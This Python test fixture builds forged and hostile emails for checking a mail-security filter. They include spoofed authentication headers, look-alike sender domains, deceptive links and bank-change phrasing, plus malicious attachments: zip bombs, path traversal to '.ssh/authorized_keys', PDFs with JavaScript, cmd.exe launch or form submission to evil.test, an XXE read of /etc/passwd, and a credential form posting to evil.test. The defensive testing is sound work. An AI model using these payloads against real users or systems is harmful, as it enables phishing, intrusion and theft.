"""Forged and hostile mails, each with the sign that must be seen in it."""

from __future__ import annotations

import gzip
import io
import zipfile
import zlib
from dataclasses import dataclass
from typing import Any

import pikepdf

from model.mail import Alert
from tests.fetchers.mail.letters import INVOICE_PAGE, PASSED, PORTAL_LINK, letter

READY = "Ihre Rechnung steht bereit"
EVIL = "rechnung@evil.test"
BORDER = "from mail.evil.test (mail.evil.test [203.0.113.9]) by mx.buyer.example with ESMTP id 1"
SIGNED = "v=1; a=rsa-sha256; c=relaxed/relaxed; d=nordlicht-strom.example; s=k; h={}; bh=x; b=y{}"
FROM = "Nordlicht Strom <rechnung@nordlicht-strom.example>"
OWN = "dkim=pass header.d=nordlicht-strom.example; dmarc=pass header.from=nordlicht-strom.example"


@dataclass(frozen=True)
class Sample:
    """A mail with the alert that it must raise; None where it must only not count as proven."""

    name: str
    raw: bytes
    alert: Alert | None


def linked(link: str, text: str = "Rechnung ansehen", sender: str = FROM, **more: Any) -> bytes:
    page = INVOICE_PAGE.format(link=link).replace("Rechnung ansehen", text)
    return letter(READY, page=page, sender=sender, **more)


def headed(*headers: tuple[str, str], **more: Any) -> bytes:
    return linked(PORTAL_LINK, headers=headers, **more)


def sent_by(sender: str) -> bytes:
    """A mail whose From stands there byte by byte."""
    first, _, rest = linked(PORTAL_LINK, sender="x <x@evil.test>").partition(b"\r\n")
    assert first.startswith(b"From:")
    return b"From: " + sender.encode() + b"\r\n" + rest


def named(file_name: str) -> bytes:
    """A mail with a file of this name, as it stands in the header."""
    raw = letter(READY, files=(("Rechnung.pdf", "application/pdf", b"%PDF-1.7"),))
    return raw.replace(b'filename="Rechnung.pdf"', file_name.encode())


def results(value: str) -> tuple[str, str]:
    return ("Authentication-Results", value)


FORGED_RESULTS = {
    "results of another server": headed(results(PASSED.replace("mx.buyer", "mx.evil"))),
    "results below the border of a server that checks nothing": headed(
        ("Received", BORDER), results(PASSED)
    ),
    "results below a second hop that pretends to be ours": headed(
        ("Received", BORDER),
        ("Received", "from mx.buyer.example by mx.buyer.example with ESMTP id 0"),
        results(PASSED),
    ),
    "results after a client that calls itself by our name": headed(
        ("Received", "from mx.buyer.example (unknown [203.0.113.9]) by mx.buyer.example with SMTP"),
        ("Received", "from a by mx.buyer.example"),
        results(PASSED),
    ),
    "results hidden in the quoted local part of the envelope sender": headed(
        results(
            'mx.buyer.example; spf=none smtp.mailfrom="x; dmarc=pass header.from='
            'nordlicht-strom.example; y"@evil.test'
        )
    ),
    "results hidden in a remark that is broken out of": headed(
        results(f"mx.buyer.example; spf=none (domain of a) ; {OWN}; x=(b@evil.test) designates)")
    ),
    "results hidden in an encoded word": headed(
        results(
            "mx.buyer.example; spf=none smtp.mailfrom="
            "=?utf-8?q?x=3B_dmarc=3Dpass_header.from=3Dnordlicht-strom.example=3B?=@evil.test"
        )
    ),
    "a second dmarc result that contradicts the first": headed(
        results("mx.buyer.example; dmarc=none header.from=evil.test; " + OWN)
    ),
    "a pass for a domain that only begins like the sender's": headed(
        results(
            PASSED.replace(
                "header.from=nordlicht-strom.example",
                "header.from=nordlicht-strom.example.evil.test",
            ).replace("header.d=nordlicht-strom.example", "header.d=evil.test")
        )
    ),
    "an arc seal of a stranger": headed(
        ("ARC-Seal", "i=1; a=rsa-sha256; cv=none; d=evil.test; s=a; b=z"),
        ("ARC-Authentication-Results", f"i=1; mx.evil.test; {OWN}"),
        results("mx.buyer.example; arc=pass (i=1); dmarc=none header.from=nordlicht-strom.example"),
    ),
    "microsoft's dialect where microsoft is not ours": headed(
        results(f"spf=pass smtp.mailfrom=nordlicht-strom.example; {OWN}; compauth=pass reason=100")
    ),
}

FAILED = {
    "dmarc fails (google)": headed(
        results(
            "mx.buyer.example; dmarc=fail (p=REJECT sp=REJECT dis=NONE)"
            " header.from=nordlicht-strom.example; dkim=pass header.d=evil.test"
        )
    ),
    "our server's failure above a forged pass": headed(
        results("mx.buyer.example; dmarc=fail header.from=nordlicht-strom.example"),
        ("Received", BORDER),
        results(PASSED),
    ),
    "composite authentication fails (microsoft)": headed(
        results("mx.buyer.example; spf=none; dkim=none; dmarc=none; compauth=fail reason=001")
    ),
    "a forbidden server and no signature": headed(
        results("mx.buyer.example; spf=fail smtp.mailfrom=nordlicht-strom.example; dkim=none")
    ),
}

PARTLY = {
    "text appended behind l=": headed(
        results(PASSED),
        ("DKIM-Signature", SIGNED.format("from:subject:date", "; l=20")),
    ),
    "text appended behind l=0": headed(
        ("DKIM-Signature", SIGNED.format("from:subject:date", "; l=0")),
    ),
}

DOUBLED = {
    f"a second {name}": headed(results(PASSED), (name, value), *also)
    for name, value, also in (
        ("Subject", "Neue Bankverbindung", ()),
        ("From", f"Nordlicht <{EVIL}>", ()),
        ("Date", "Fri, 20 Nov 2026 10:00:00 +0100", ()),
        ("Message-ID", "<x@evil.test>", ()),
        ("To", "x@evil.test", ()),
        ("Content-Type", "text/plain", ()),
        ("Reply-To", "a@evil.test", (("Reply-To", "b@evil.test"),)),
    )
} | {
    "two addresses in one From": letter(
        READY, sender=f"Nordlicht <rechnung@nordlicht-strom.example>, Other <{EVIL}>"
    ),
}

SENDERS = {
    "a digit for a letter": "Nordlicht <a@nord1icht-strom.example>",
    "rn for m": "Nordlicht <a@blauvval.example>",
    "two letters swapped": "Nordlicht <a@nordlihct-strom.example>",
    "a letter left out": "Nordlicht <a@nordlich-strom.example>",
    "another ending": "Nordlicht <a@nordlicht-strom.test>",
    "without its hyphen": "Nordlicht <a@nordlichtstrom.example>",
    "with a word beside it": "Nordlicht <a@nordlicht-strom-rechnung.test>",
    "with a word joined to it": "Blauwal <a@blauwalbilling.test>",
    "as a sub-domain of a stranger": "Nordlicht <a@nordlicht-strom.example.evil.test>",
    "in punycode with an accent": "Nordlicht <a@xn--nrdlicht-strom-swb.example>",
    "with a Cyrillic letter": "Nordlicht <a@n\u043erdlicht-strom.example>",
    "a stranger in mixed scripts": "Pay <a@xn--pple-43d.test>",
    "its name on a free address": "Nordlicht Strom AG <nordlicht.strom@gmail.com>",
    "its name on another domain": "Nordlicht Strom AG <billing@sonne.test>",
    "its name in look-alike letters": "N\u043erdlicht Str\u043em AG <billing@sonne.test>",
    "its address as the name": '"rechnung@nordlicht-strom.example" <x@evil.test>',
    "its address as the name, encoded": (
        "=?utf-8?q?rechnung=40nordlicht-strom.example?= <x@evil.test>"
    ),
    "another address as the name": '"billing@acme.example" <x@evil.test>',
    "its domain in code": "Nordlicht <a@=?utf-8?q?nordlicht-strom?=.example>",
    "a whole sender encoded before the real one": (
        "=?utf-8?q?Nordlicht_=3Crechnung=40nordlicht-strom.example=3E=2C?= <x@evil.test>"
    ),
}

LINKS = {
    "a bare address": ("https://192.0.2.7/rechnung", ""),
    "an address as one number": ("https://3221225991/rechnung", ""),
    "an address in hexadecimal": ("http://0xc0000207/rechnung", ""),
    "a name before the @": ("https://portal.nordlicht-strom.example@evil.test/", ""),
    "a host in punycode": ("https://xn--nrdlicht-strom-swb.example/", ""),
    "a host of mixed scripts": ("https://p\u0430ypal.test/login", ""),
    "an open redirect": ("https://portal.nordlicht-strom.example/go?url=https://evil.test/", ""),
    "an open redirect without a scheme": (
        "https://www.nordlicht-strom.example/out?next=//evil.test/x",
        "",
    ),
    "a redirect of a search engine": ("https://www.search.test/url?url=https://evil.test/l", ""),
    "another host than is shown": ("https://evil.test/x", "https://portal.nordlicht-strom.example"),
    "another host behind a counter's name": (
        "https://click.evil.test/x",
        "https://portal.nordlicht-strom.example/rechnung",
    ),
    "a counter without a proven sender": ("https://click.evil.test/x", ""),
    "the portal's name in the path": ("https://evil.test/portal.nordlicht-strom.example/", ""),
    "the portal's name with a hyphen": ("https://portal-nordlicht-strom.test/rechnung", ""),
    "a stranger": ("https://kundenportal.test/rechnung", ""),
    "a script": ("javascript:fetch('//evil.test')", ""),
    "a page in the link itself": ("data:text/html;base64,PHNjcmlwdD4=", ""),
    "a stranger behind safe links": (
        "https://eur02.safelinks.protection.outlook.com/?url=https%3A%2F%2F192.0.2.7%2Fx&data=1",
        "",
    ),
}

BANK = {
    "en": "Please note that our bank account has changed. Use the details below from now on.",
    "de": "Bitte beachten Sie: Unsere Bankverbindung hat sich geändert.",
    "fr": "Veuillez noter que nos coordonnées bancaires ont été modifiées.",
    "es": "Le informamos de que hemos cambiado de cuenta bancaria para los pagos.",
    "it": "La informiamo che le nostre coordinate bancarie sono state modificate.",
    "pt": "Informamos que os nossos dados bancários foram alterados.",
    "nl": "Let op: ons rekeningnummer is gewijzigd, gebruik voortaan het nieuwe.",
    "sv": "Observera att vi har ändrat bankgiro från och med idag.",
    "da": "Bemærk, at vi har fået ny bankkonto, og brug den fremover.",
    "nb": "Vær oppmerksom på at vi har fått ny bankkonto.",
    "fi": "Huomaathan, että pankkitilimme on muuttunut.",
    "pl": "Informujemy o zmianie numeru rachunku bankowego naszej firmy.",
    "cs": "Upozorňujeme, že se změnilo naše číslo účtu pro platby.",
    "hu": "Tájékoztatjuk, hogy megváltozott a bankszámlaszámunk.",
    "ro": "Vă informăm că am schimbat contul bancar pentru plăți.",
    "ru": "Сообщаем, что изменились наши банковские реквизиты.",
    "uk": "Повідомляємо, що змінилися наші банківські реквізити.",
    "el": "Σας ενημερώνουμε ότι άλλαξε ο τραπεζικός λογαριασμός μας.",  # noqa: RUF001 - letters of the language
    "tr": "Banka hesap bilgilerimiz değişmiştir, lütfen dikkate alınız.",  # noqa: RUF001 - letters of the language
    "ja": "振込先口座が変更になりましたのでご確認ください。",
    "zh": "请注意，我们的银行账户已变更，请按新账户付款。",  # noqa: RUF001 - letters of the language
    "ko": "당사의 은행 계좌가 변경되었음을 알려드립니다.",
    "ar": "يرجى العلم بأنه قد تغير حسابنا البنكي.",
    "he": "שימו לב: פרטי הבנק שלנו השתנו.",
}


def _zip(*files: tuple[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files:
            archive.writestr(name, content)
    return packed.getvalue()


def _encrypted_zip() -> bytes:
    """An archive whose directory says that its file is encrypted."""
    packed = bytearray(_zip(("invoice.pdf", b"secret")))
    packed[6] |= 1
    packed[packed.index(b"PK\x01\x02") + 8] |= 1
    return bytes(packed)


def _overlapping_zip() -> bytes:
    """A directory that names one packed file twice (a bomb without nesting)."""
    packed = _zip(("a.txt", b"x" * 1000), ("b.txt", b"y" * 1000))
    at = packed.rindex(b"PK\x01\x02")
    return packed[: at + 42] + b"\0\0\0\0" + packed[at + 46 :]


def _forged_zip() -> bytes:
    """A file that claims to be smaller than it is."""
    packed = bytearray(_zip(("invoice.txt", b"0" * 3_000_000)))
    at = packed.index(b"PK\x01\x02")
    packed[at + 24 : at + 28] = (100).to_bytes(4, "little")
    return bytes(packed)


def pdf(action: pikepdf.Object | None = None, *, hide: bool = True, **root: object) -> bytes:
    """A PDF of one page; `hide` packs its objects into an object stream."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    if action is not None:
        document.Root.OpenAction = document.make_indirect(action)
    for key, value in root.items():
        document.Root[f"/{key}"] = value
    kept = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if hide else pikepdf.ObjectStreamMode.disable
    document.save(kept, object_stream_mode=mode, compress_streams=True)
    return kept.getvalue()


def _linked_pdf() -> bytes:
    """A script in a link's action, which lies directly in the page's annotations."""
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(200, 200))
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)
    page.obj.Annots = pikepdf.Array([link])
    kept = io.BytesIO()
    document.save(kept, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return kept.getvalue()


def _carrying_pdf() -> bytes:
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    document.attachments["update.exe"] = b"MZ\x90"
    kept = io.BytesIO()
    document.save(kept)
    return kept.getvalue()


def _deep_zip(depth: int) -> bytes:
    content = b"%PDF-1.7"
    for level in range(depth):
        content = _zip((f"level{level}.zip" if level else "invoice.pdf", content))
    return content


def _office(*files: tuple[str, bytes]) -> bytes:
    return _zip(("[Content_Types].xml", b"<Types/>"), *files)


_ACTION = pikepdf.Dictionary
_TEMPLATE = (
    b'<Relationship Type="http://x/attachedTemplate" Target="https://evil.test/t.dotm"'
    b' TargetMode="External"/>'
)
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
PDF, ZIP, BIN = "application/pdf", "application/zip", "application/octet-stream"

FILES: dict[str, tuple[str, str, bytes]] = {
    "a bomb by ratio": ("a.zip", ZIP, _zip(("a.xml", bytes(30_000_000)))),
    "a bomb by its number of files": (
        "a.zip",
        ZIP,
        _zip(*((f"{n}.txt", b"x") for n in range(300))),
    ),
    "a bomb that lies about its size": ("a.zip", ZIP, _forged_zip()),
    "a bomb of overlapping files": ("a.zip", ZIP, _overlapping_zip()),
    "archives in archives in archives": ("a.zip", ZIP, _deep_zip(5)),
    "a gzip bomb": ("a.xml.gz", "application/gzip", gzip.compress(bytes(200_000_000), 9)),
    "a path out of its folder in an archive": ("a.zip", ZIP, _zip(("../../up.pdf", b"x"))),
    "a program in an archive": ("a.zip", ZIP, _zip(("invoice.exe", b"MZ"))),
    "a program in an archive in an archive": (
        "a.zip",
        ZIP,
        _zip(("b.zip", _zip(("Rechnung.pdf.js", b"x")))),
    ),
    "a script in a PDF in an archive": (
        "a.zip",
        ZIP,
        _zip(("invoice.pdf", pdf(_ACTION(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x"))))),
    ),
    "an encrypted archive": ("invoice.zip", ZIP, _encrypted_zip()),
    "an archive of an unknown kind": ("invoice.rar", "application/vnd.rar", b"Rar!\x1a\x07\x01"),
    "a path out of its folder": ("../../.ssh/authorized_keys", BIN, b"ssh-rsa"),
    "a path from the root": ("/etc/cron.d/x", BIN, b"x"),
    "a name written backwards": ("Rechnung\u202efdp.exe", BIN, b"x"),
    "two endings": ("Rechnung.pdf.exe", BIN, b"MZ"),
    "two endings, a page": ("Rechnung.pdf.html", "text/html", b"<p>x</p>"),
    "a program called a PDF": ("Rechnung.pdf", PDF, b"MZ\x90\x00"),
    "a page called a PDF": ("Rechnung.pdf", PDF, b"<html><body>Please sign in</body></html>"),
    "a shortcut": ("Rechnung.lnk", BIN, b"L\x00\x00\x00\x01\x14\x02\x00"),
    "a disk image": ("Rechnung.iso", BIN, b"x"),
    "a script in a PDF's object stream": (
        "a.pdf",
        PDF,
        pdf(_ACTION(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))),
    ),
    "a program started by a PDF": (
        "a.pdf",
        PDF,
        pdf(_ACTION(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))),
    ),
    "a PDF that sends what is typed": (
        "a.pdf",
        PDF,
        pdf(_ACTION(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.test")), hide=False),
    ),
    "a script in a PDF's link": ("a.pdf", PDF, _linked_pdf()),
    "a program packed in a PDF": ("a.pdf", PDF, _carrying_pdf()),
    "a page that builds a file": (
        "Rechnung.html",
        "text/html",
        b"<html><script>var b=new Blob([atob('TVo=')]);</script></html>",
    ),
    "the same in UTF-16": (
        "Rechnung.htm",
        "text/html",
        "<html><script>URL.createObjectURL(x)</script></html>".encode("utf-16"),
    ),
    "a page that goes elsewhere": (
        "Rechnung.html",
        "text/html",
        b"<html><meta http-equiv='refresh' content='0;url=https://evil.test'></html>",
    ),
    "a page with a hidden script link": (
        "Rechnung.html",
        "text/html",
        b"<html><a href='java&#x0A;script:x()'>Rechnung</a></html>",
    ),
    "a page that asks for a password": (
        "Rechnung.html",
        "text/html",
        b"<form action='https://evil.test'><input type=password></form>",
    ),
    "a drawing with a script": ("logo.svg", "image/svg+xml", b"<svg><script>x()</script></svg>"),
    "a drawing with a script, called XML": (
        "Rechnung.xml",
        "application/xml",
        b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
    ),
    "an XML with entities": (
        "Rechnung.xml",
        "application/xml",
        b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    ),
    "macros": ("Rechnung.docx", BIN, _office(("word/vbaProject.bin", b"x"))),
    "macros by their ending": ("Rechnung.xlsm", BIN, _office()),
    "old macros": ("Rechnung.xls", BIN, _OLE + "_VBA_PROJECT".encode("utf-16-le")),
    "a template from elsewhere": (
        "Rechnung.docx",
        BIN,
        _office(("word/_rels/settings.xml.rels", _TEMPLATE)),
    ),
    "an encrypted Office document": (
        "Rechnung.docx",
        BIN,
        _OLE + "EncryptedPackage".encode("utf-16-le"),
    ),
    "an object in rich text": (
        "Rechnung.rtf",
        "application/rtf",
        b"{\\rtf1{\\object\\objdata 01}}",
    ),
    "a damaged archive": ("a.zip", ZIP, b"PK\x03\x04" + zlib.compress(b"x")),
}

NAMES = {
    "cut by NUL": "filename*=utf-8''Rechnung.pdf%00.txt",
    "out of its folder, encoded": "filename*=utf-8''..%2F..%2Fup.pdf",
    "out of its folder, for windows": 'filename="..\\\\..\\\\up.pdf"',
    "written backwards, in code": 'filename="=?utf-8?b?UmVjaG51bmfigK5mZHAuZXhl?="',
    "continued in pieces": 'filename*0="Rechnung."; filename*1="pdf.e"; filename*2="xe"',
}

SAMPLES: tuple[Sample, ...] = (
    *(Sample(f"results: {name}", raw, None) for name, raw in FORGED_RESULTS.items()),
    *(Sample(f"checks: {n}", raw, Alert.AUTHENTICATION_FAILED) for n, raw in FAILED.items()),
    *(Sample(f"signature: {name}", raw, Alert.PARTLY_SIGNED) for name, raw in PARTLY.items()),
    *(Sample(f"headers: {name}", raw, Alert.HEADERS_DOUBLED) for name, raw in DOUBLED.items()),
    *(
        Sample(f"sender: {name}", sent_by(sender), Alert.SENDER_LOOKALIKE)
        for name, sender in SENDERS.items()
    ),
    Sample(
        "sender: a firm on a free address",
        linked(PORTAL_LINK, sender="Sonnenschein GmbH <sonnenschein.rechnung@gmail.com>"),
        Alert.FREE_MAIL_SENDER,
    ),
    Sample(
        "sender: a firm's department on a free address",
        linked(PORTAL_LINK, sender="Sonnenschein Billing <sonnenschein@outlook.com>"),
        Alert.FREE_MAIL_SENDER,
    ),
    Sample(
        "answers: to another owner",
        headed(("Reply-To", "rechnung@nordlicht-zahlung.test")),
        Alert.REPLY_TO_DIFFERS,
    ),
    Sample(
        "answers: to a free address", headed(("Reply-To", "x@gmail.com")), Alert.REPLY_TO_DIFFERS
    ),
    *(
        Sample(f"link: {n}", linked(href, shown or "Rechnung ansehen"), Alert.LINK_OUTSIDE_PORTAL)
        for n, (href, shown) in LINKS.items()
    ),
    *(
        Sample(f"bank details: {name}", letter("Info", text), Alert.BANK_DETAILS_CHANGED)
        for name, text in BANK.items()
    ),
    *(
        Sample(f"file: a name {name}", named(written), Alert.ATTACHMENT_UNSAFE)
        for name, written in NAMES.items()
    ),
    *(
        Sample(f"file: {name}", letter(READY, files=(file,)), Alert.ATTACHMENT_UNSAFE)
        for name, file in FILES.items()
    ),
)
